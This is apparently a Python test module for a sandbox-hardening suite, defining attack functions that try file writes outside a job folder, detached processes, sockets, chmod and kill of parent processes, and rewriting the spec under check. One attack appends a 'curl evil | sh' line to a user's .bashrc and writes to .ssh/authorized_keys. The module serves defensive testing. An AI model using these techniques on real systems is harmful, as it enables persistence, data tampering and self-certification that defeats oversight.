"""The hostile targets of the adversarial sandbox suite (issue 17): one attack per function.

Each ``attack_<name>(where)`` below is real, type-checked Python. :func:`target_source` turns one into a
self-contained target module (``tgt.py``): the configuration constants as literals, the helpers, the attack,
and ``f(n)``, the function the spec's requirement is about. In phase ``import`` the attack runs when the
module is imported (the signature probe, every worker, the replay, the behaviour diff); in phase ``call`` the
first time ``f`` is called in a process. Each technique is tried in turn, inside its own ``try`` so that a
blocked one does not stop the next: first through the Python API (which an audit hook sees), then the same
thing through libc with ``ctypes`` (which no audit hook sees: the real test of an OS sandbox). Every effect
carries ``TOKEN`` in a file name or in a process's argv, so the tests find it wherever it lands.

Safety of the suite itself: ancestors are looked up only below the test process (``STOP_PID``, never
signalled or read); if the test process is not found among them, none are, unless the target runs in
another PID namespace (see :func:`_ancestors`). So the attacks never reach the real user's ``HOME`` or
anything that runs pytest.

Importing this module runs no attack.
"""

from __future__ import annotations

import ctypes
import inspect
import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

__all__ = ["Attack", "ATTACKS", "PHASES", "target_source"]

#: When the attack runs: at import of the target, or at the first call of ``f``.
PHASES = ("import", "call")

# ---- configuration: placeholders here, literals in each generated target (see target_source)
TOKEN = ""
PHASE = ""
#: The canary trees aimed at: the fake home first, then the project's ``pkg``, then the cache's canary.
CANARY_DIRS: list[str] = []
#: A marker path prefix in the system's temporary folder (outside the test's folder).
GLOBAL_PREFIX = ""
#: The spec files of the project (the original, not a copy evalgap made).
SPEC_FILES: list[str] = []
#: The localhost listener's port.
PORT = 0
#: The test process: ancestors from it upwards are never read nor signalled.
STOP_PID = 0

_CREATE = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
_APPEND = os.O_WRONLY | os.O_APPEND


# ------------------------------------------------------------------ helpers (copied into every target)
def _libc() -> Any:
    """libc through ctypes: calls that no audit hook sees."""
    return ctypes.CDLL(None, use_errno=True)


def _try(action: Callable[[], object]) -> None:
    """Run one technique; one that is blocked or fails does not stop the next."""
    try:
        action()
    except Exception:  # noqa: BLE001 - an attack goes on
        pass


def _mark(where: str, technique: str, folder: str = "") -> str:
    """The marker path of one technique in ``folder`` (default: the fake home)."""
    return os.path.join(folder or CANARY_DIRS[0], f"pwned.{TOKEN}.{where}.{technique}")


def _py_write(path: str, data: str, mode: str = "w") -> None:
    """Write ``data`` to ``path`` with Python's ``open`` (seen by audit hooks)."""
    with open(path, mode, encoding="utf-8") as fh:
        fh.write(data)


def _c_write(path: str, data: bytes, flags: int = _CREATE) -> None:
    """Write ``data`` to ``path`` with libc's ``open`` and ``write`` (seen by no audit hook)."""
    libc = _libc()
    fd = int(libc.open(path.encode(), flags, 0o644))
    if fd < 0:
        raise OSError(ctypes.get_errno(), f"libc open {path}")
    try:
        libc.write(fd, data, len(data))
    finally:
        libc.close(fd)


def _ancestors() -> list[int]:
    """This process's ancestors found through /proc, nearest first, strictly below the test process. When the
    test process is not among them: all of them if it is in another PID namespace (the chain then holds only
    processes of this one, e.g. an OS sandbox's), else none (never risk signalling what runs the tests)."""
    chain: list[int] = []
    pid = os.getppid()
    while pid > 1 and len(chain) < 64:
        if pid == STOP_PID:
            return chain
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/status", encoding="utf-8") as fh:
                pid = int(next(line for line in fh if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    try:
        same_namespace = os.readlink("/proc/self/ns/pid") == os.readlink(f"/proc/{STOP_PID}/ns/pid")
    except OSError:  # the test process is not visible from here
        same_namespace = False
    return [] if same_namespace else chain


def _environ(pid: int) -> dict[str, str]:
    """The environment process ``pid`` started with, read from /proc (empty when unreadable)."""
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            raw = fh.read()
    except OSError:
        return {}
    pairs = (item.decode("utf-8", "replace").partition("=") for item in raw.split(b"\0") if item)
    return {k: v for k, _, v in pairs}


_HELPERS: tuple[Callable[..., Any], ...] = (_libc, _try, _mark, _py_write, _c_write, _ancestors, _environ)


# ------------------------------------------------------------------ the attacks
def attack_none(where: str) -> None:
    """No attack: the control. A well-behaved target, so every check of the suite must pass on it (a failure
    here is a fault of the suite or of evalgap's own hygiene, not a sandbox escape).

    Promise: evalgap itself changes nothing outside its own folders."""
    del where


def attack_write_outside(where: str) -> None:
    """Create files in, and append to files of, every canary tree (the fake home, the project, the cache)
    and the system's temporary folder: Python's ``open`` and libc's ``open``/``write``.

    Promise: the target can write nowhere but its job folder."""
    for folder in CANARY_DIRS:
        _try(lambda: _py_write(_mark(where, "open-py", folder), TOKEN))
        _try(lambda: _py_write(os.path.join(folder, "a.txt"), TOKEN, "a"))
        _try(lambda: _c_write(_mark(where, "open-c", folder), TOKEN.encode()))
        _try(lambda: _c_write(os.path.join(folder, "secret.txt"), TOKEN.encode(), _APPEND))
    _try(lambda: _py_write(f"{GLOBAL_PREFIX}.{where}.open-py", TOKEN))
    _try(lambda: _c_write(f"{GLOBAL_PREFIX}.{where}.open-c", TOKEN.encode()))


def attack_subprocess(where: str) -> None:
    """Start processes that detach (new session, standard streams on /dev/null), write a marker file and stay
    (argv carries the token): ``subprocess.run``, ``subprocess.Popen``, ``os.system``, ``os.posix_spawn`` and
    libc's ``system``.

    Promise: the target starts no process that can act or outlive the job."""
    import shlex
    import subprocess

    child = ("import os, sys, time\ntry:\n    os.setsid()\nexcept OSError:\n    pass\n"
             "open(sys.argv[1], 'w').write(sys.argv[2])\ntime.sleep(60)\n")

    def argv(technique: str) -> list[str]:
        return [sys.executable, "-c", child, _mark(where, technique), TOKEN]

    def shell(technique: str) -> str:
        return " ".join(shlex.quote(a) for a in argv(technique)) + " </dev/null >/dev/null 2>&1 &"

    quick = [sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write(sys.argv[2])",
             _mark(where, "subprocess-run"), TOKEN]
    null = subprocess.DEVNULL
    _try(lambda: subprocess.run(quick, stdin=null, stdout=null, stderr=null, timeout=10, check=False))
    _try(lambda: subprocess.Popen(argv("subprocess-popen"), stdin=null, stdout=null, stderr=null,
                                  start_new_session=True))
    _try(lambda: os.system(shell("os-system")))
    streams = [(os.POSIX_SPAWN_OPEN, fd, os.devnull, os.O_RDWR, 0) for fd in (0, 1, 2)]
    _try(lambda: os.posix_spawn(sys.executable, argv("posix-spawn"), dict(os.environ), file_actions=streams))
    _try(lambda: _libc().system(shell("libc-system").encode()))


def attack_socket(where: str) -> None:
    """Connect to the test's localhost TCP listener and send the token: Python's ``socket`` and libc's
    ``socket``/``connect``/``send``; a UDP datagram to the same port; a connection to the test's abstract
    UNIX socket and to its named UNIX socket (Python and libc).

    Promise: the target has no network, not even the loopback interface, and reaches no socket outside."""
    import socket
    import struct

    def python() -> None:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as sock:
            sock.sendall(f"{TOKEN} {where} python".encode())

    def libc() -> None:
        lib = _libc()
        fd = int(lib.socket(socket.AF_INET, socket.SOCK_STREAM, 0))
        addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + bytes([127, 0, 0, 1]) + bytes(8)
        if int(lib.connect(fd, addr, len(addr))) == 0:
            msg = f"{TOKEN} {where} libc".encode()
            lib.send(fd, msg, len(msg), 0)
        lib.close(fd)

    def udp() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(f"{TOKEN} {where} udp".encode(), ("127.0.0.1", PORT))

    def unix(address: str) -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect(address)
            sock.sendall(f"{TOKEN} {where} unix".encode())

    def libc_unix(path: str) -> None:
        lib = _libc()
        fd = int(lib.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0))
        addr = struct.pack("=H", socket.AF_UNIX) + path.encode() + bytes(108 - len(path.encode()))
        if int(lib.connect(fd, addr, len(addr))) == 0:
            msg = f"{TOKEN} {where} libc unix".encode()
            lib.send(fd, msg, len(msg), 0)
        lib.close(fd)

    named = os.path.join(os.path.dirname(CANARY_DIRS[0]), "listener.sock")
    _try(python)
    _try(libc)
    _try(udp)
    _try(lambda: unix(f"\0evalgap-adv-{TOKEN}"))
    _try(lambda: unix(named))
    _try(lambda: libc_unix(named))


def attack_dir_fd(where: str) -> None:
    """Open each canary folder read-only (allowed), then create a file and delete a file relative to that
    descriptor: ``os.open(name, flags, dir_fd=d)``, ``os.unlink(name, dir_fd=d)``, libc's ``openat`` and
    ``unlinkat`` (a path-checking guard sees only a harmless relative name).

    Promise: file-system confinement holds for descriptor-relative calls."""
    for folder in CANARY_DIRS:
        dfd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        name = f"pwned.{TOKEN}.{where}"
        _try(lambda: os.close(os.open(f"{name}.dirfd-py", _CREATE, 0o644, dir_fd=dfd)))
        _try(lambda: os.unlink("victim-py.txt", dir_fd=dfd))
        _try(lambda: _libc().close(_libc().openat(dfd, f"{name}.dirfd-c".encode(), _CREATE, 0o644)))
        _try(lambda: _libc().unlinkat(dfd, b"victim-c.txt", 0))
        os.close(dfd)


def attack_fchmod(where: str) -> None:
    """Open canary files and a canary folder read-only (allowed), then change their modes through the
    descriptor: ``os.fchmod`` and libc's ``fchmod``.

    Promise: a read-only descriptor of an outside file gives no way to change it."""
    del where  # the effect is a changed mode, not a new file
    for folder in CANARY_DIRS:
        fd = os.open(os.path.join(folder, "a.txt"), os.O_RDONLY)
        _try(lambda: os.fchmod(fd, 0o777))
        os.close(fd)
        fd = os.open(os.path.join(folder, "secret.txt"), os.O_RDONLY)
        _try(lambda: _libc().fchmod(fd, 0o666))
        os.close(fd)
        fd = os.open(os.path.join(folder, "sub"), os.O_RDONLY | os.O_DIRECTORY)
        _try(lambda: _libc().fchmod(fd, 0o777))
        os.close(fd)


def attack_opener(where: str) -> None:
    """``open(name, "w", opener=...)`` where the name is a harmless relative one but the opener creates
    the file elsewhere: relative to a descriptor of a canary folder, or at an absolute path with libc's
    ``open``.

    Promise: confinement does not depend on the name ``open`` was given."""
    def through(name: str, opener: Callable[[str, int], int]) -> None:
        with open(name, "w", encoding="utf-8", opener=opener) as fh:
            fh.write(TOKEN)

    for folder in CANARY_DIRS:
        dfd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        _try(lambda: through(f"pwned.{TOKEN}.{where}.opener-dirfd",
                             lambda p, fl: os.open(p, fl, 0o644, dir_fd=dfd)))
        absolute = _mark(where, "opener-libc", folder).encode()
        _try(lambda: through("decoy.txt", lambda p, fl: int(_libc().open(absolute, fl, 0o644))))
        os.close(dfd)


def attack_sqlite(where: str) -> None:
    """Create SQLite databases in the canary trees: ``sqlite3.connect(path)`` and ``ATTACH DATABASE``
    (SQLite opens the files in C).

    Promise: library code that opens files itself is confined too."""
    import sqlite3

    def connect(path: str) -> None:
        con = sqlite3.connect(path)
        con.execute("create table t (x)")
        con.commit()
        con.close()

    def attach(path: str) -> None:
        con = sqlite3.connect(":memory:")
        con.execute("attach database ? as other", (path,))
        con.execute("create table other.t (x)")
        con.commit()
        con.close()

    for folder in CANARY_DIRS:
        _try(lambda: connect(_mark(where, "sqlite-connect.db", folder)))
        _try(lambda: attach(_mark(where, "sqlite-attach.db", folder)))


def attack_mkfifo(where: str) -> None:
    """Create named pipes and nodes in the canary trees: ``os.mkfifo``, ``os.mknod``, libc's ``mkfifo``.

    Promise: no kind of file-system entry can be created outside."""
    import stat

    for folder in CANARY_DIRS:
        _try(lambda: os.mkfifo(_mark(where, "fifo-py", folder)))
        _try(lambda: os.mknod(_mark(where, "mknod-py", folder), 0o600 | stat.S_IFIFO))
        _try(lambda: _libc().mkfifo(_mark(where, "fifo-c", folder).encode(), 0o600))


def attack_spec_rewrite(where: str) -> None:
    """The target (whose ``f`` returns ``n + 1``) quietly rewrites the spec it is checked against, so that
    the requirement says ``result == n + 1``: the project's spec and the one beside its own file, with libc's
    ``open``/``write`` only (nothing an audit hook reports), and only when not rewritten yet.

    Promise: the spec is not changed, so the next run reports the same verdicts (no self-certification)."""
    del where
    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "spec.req")
    for spec in dict.fromkeys([*SPEC_FILES, here]):
        try:
            with open(spec, encoding="utf-8") as fh:
                text = fh.read()
        except OSError:
            continue
        if "ensures result == n\n" in text:
            forged = text.replace("ensures result == n\n", "ensures result == n + 1\n")
            _try(lambda: _c_write(spec, forged.encode()))


def attack_chmod000(where: str) -> None:
    """``chmod 000`` of folders: ``os.chmod`` of each canary tree's ``sub``, libc's ``chmod`` of its
    ``empty``, and last libc's ``chmod`` of the project's folder ``pkg`` itself.

    Promise: the target cannot change the modes of the project or any outside folder."""
    del where
    for folder in CANARY_DIRS:
        _try(lambda: os.chmod(os.path.join(folder, "sub"), 0))
        _try(lambda: _libc().chmod(os.path.join(folder, "empty").encode(), 0))
    _try(lambda: _libc().chmod(CANARY_DIRS[1].encode(), 0))


def attack_fork_setsid(where: str) -> None:
    """libc ``fork()``; the child calls ``setsid()`` (leaving the worker's process group), puts its standard
    streams on /dev/null and becomes a Python that writes a marker file 2 seconds later and then sleeps
    (argv carries the token).

    Promise: no process of the target outlives the job, so nothing happens after the command returned."""
    libc = _libc()
    code = "import sys, time\ntime.sleep(2)\nopen(sys.argv[1], 'w').write(sys.argv[2])\ntime.sleep(60)\n"
    args = [sys.executable, "-c", code, _mark(where, "fork-setsid-late"), TOKEN]
    c_args = (ctypes.c_char_p * (len(args) + 1))(*[a.encode() for a in args], None)
    exe = sys.executable.encode()
    null_path = os.devnull.encode()
    pid = int(libc.fork())
    if pid == 0:  # the child: never returns into the worker's code
        try:
            libc.setsid()
            null = libc.open(null_path, os.O_RDWR, 0)
            for fd in (0, 1, 2):
                libc.dup2(null, fd)
            libc.execv(exe, c_args)
        finally:
            libc._exit(0)


def attack_kill_parent(where: str) -> None:
    """``SIGKILL`` to the parent process: ``os.kill(os.getppid(), SIGKILL)`` and libc's ``kill``.

    Promise: evalgap still ends with a report and a non-crash exit code, and nothing outside changed."""
    import signal

    del where
    parent = os.getppid()
    if parent > 1 and parent != STOP_PID:
        _try(lambda: os.kill(parent, signal.SIGKILL))
        _try(lambda: _libc().kill(parent, signal.SIGKILL))


def attack_kill_ancestors(where: str) -> None:
    """libc ``kill(pid, SIGKILL)`` to every ancestor found through ``/proc/<pid>/status`` (below the test
    process), nearest first.

    Promise: evalgap still ends with a report and a non-crash exit code, and nothing outside changed."""
    import signal

    del where
    for pid in _ancestors():
        _try(lambda: _libc().kill(pid, signal.SIGKILL))


def attack_cache_via_environ(where: str) -> None:
    """Find ``EVALGAP_CACHE_DIR`` in the ancestors' ``/proc/<pid>/environ``, create files in it and append to
    every file under it (evalgap's entries and the canary): Python's ``open`` and libc's ``open``/``write``.

    Promise: the cache (shared by every later run) cannot be written by the target."""
    for pid in _ancestors():
        cache = _environ(pid).get("EVALGAP_CACHE_DIR", "")
        if not cache:
            continue
        _try(lambda: _py_write(_mark(where, "cache-py", cache), TOKEN))
        _try(lambda: _c_write(_mark(where, "cache-c", cache), TOKEN.encode()))
        for dirpath, _, names in os.walk(cache):
            for name in names:
                if TOKEN not in name:
                    _try(lambda: _c_write(os.path.join(dirpath, name), TOKEN.encode(), _APPEND))


def attack_home_via_environ(where: str) -> None:
    """Find the real user's ``HOME`` in the ancestors' ``/proc/<pid>/environ`` (the worker's own ``HOME`` is
    its job folder), create files there and append to its ``.bashrc`` and ``.ssh/authorized_keys``:
    Python's ``open`` and libc's ``open``/``write``.

    Promise: the user's home (shell start-up files, SSH keys) cannot be written by the target."""
    own = os.path.realpath(os.getcwd())
    homes = {_environ(pid).get("HOME", "") for pid in _ancestors()}
    for home in sorted(h for h in homes if h and os.path.realpath(h) != own):
        _try(lambda: _py_write(_mark(where, "home-py", home), TOKEN))
        _try(lambda: _c_write(_mark(where, "home-c", home), TOKEN.encode()))
        _try(lambda: _py_write(os.path.join(home, ".bashrc"), f"\ncurl evil | sh  # {TOKEN}\n", "a"))
        _try(lambda: _c_write(os.path.join(home, ".ssh", "authorized_keys"), f"\n# {TOKEN}\n".encode(),
                              _APPEND))


# ------------------------------------------------------------------ the registry
@dataclass(frozen=True)
class Attack:
    """One hostile target.

    Attributes:
        name: its id in test names.
        run: the attack function.
        returns: the expression ``f(n)`` returns (``n``: correct; ``n + 1`` for the self-certifying target).
        delayed: its effects may come seconds after the command returned (wait before the last check).
        rerun: a second run must give the same verdicts as the first.
        kills: it signals evalgap's processes (the command must still end with a report).
    """

    name: str
    run: Callable[[str], None]
    returns: str = "n"
    delayed: bool = False
    rerun: bool = False
    kills: bool = False

    @property
    def doc(self) -> str:
        """What the attack does and which promise it tests (the attack function's docstring)."""
        return inspect.getdoc(self.run) or ""


ATTACKS: dict[str, Attack] = {a.name: a for a in [
    Attack("none", attack_none),
    Attack("write_outside", attack_write_outside),
    Attack("subprocess", attack_subprocess),
    Attack("socket", attack_socket),
    Attack("dir_fd", attack_dir_fd),
    Attack("fchmod", attack_fchmod),
    Attack("opener", attack_opener),
    Attack("sqlite", attack_sqlite),
    Attack("mkfifo", attack_mkfifo),
    Attack("spec_rewrite", attack_spec_rewrite, returns="n + 1", rerun=True),
    Attack("chmod000", attack_chmod000),
    Attack("fork_setsid", attack_fork_setsid, delayed=True),
    Attack("kill_parent", attack_kill_parent, kills=True),
    Attack("kill_ancestors", attack_kill_ancestors, kills=True),
    Attack("cache_via_environ", attack_cache_via_environ),
    Attack("home_via_environ", attack_home_via_environ),
]}

_EPILOGUE = '''

def _attack(where: str) -> None:
    try:
        {attack}(where)
    except Exception:
        pass


if PHASE == "import":
    _attack("import")

_FIRED: list[bool] = []


def f(n: int) -> int:
    """The function under check; in phase call, the first call in a process runs the attack."""
    if PHASE == "call" and not _FIRED:
        _FIRED.append(True)
        _attack("call")
    return {returns}
'''


def target_source(attack: Attack, phase: str, config: dict[str, object]) -> str:
    """The source of a self-contained hostile target module.

    Args:
        attack: the attack it carries.
        phase: ``import`` or ``call`` (see :data:`PHASES`).
        config: literal values of the configuration constants (``TOKEN``, ``CANARY_DIRS``,
            ``GLOBAL_PREFIX``, ``SPEC_FILES``, ``PORT``, ``STOP_PID``).
    """
    assert phase in PHASES, phase
    header = [f'"""A hostile target of evalgap\'s adversarial suite: attack {attack.name}, phase {phase}."""',
              "", "from __future__ import annotations", "", "import ctypes", "import os", "import sys",
              "from typing import Any, Callable", "", f"PHASE = {phase!r}"]
    header += [f"{key} = {value!r}" for key, value in sorted(config.items())]
    header += [f"_CREATE = {_CREATE!r}", f"_APPEND = {_APPEND!r}", ""]
    parts = ["\n".join(header)]
    parts += [inspect.getsource(helper) for helper in _HELPERS]
    parts.append(inspect.getsource(attack.run))
    return "\n\n".join(parts) + _EPILOGUE.format(attack=attack.run.__name__, returns=attack.returns)
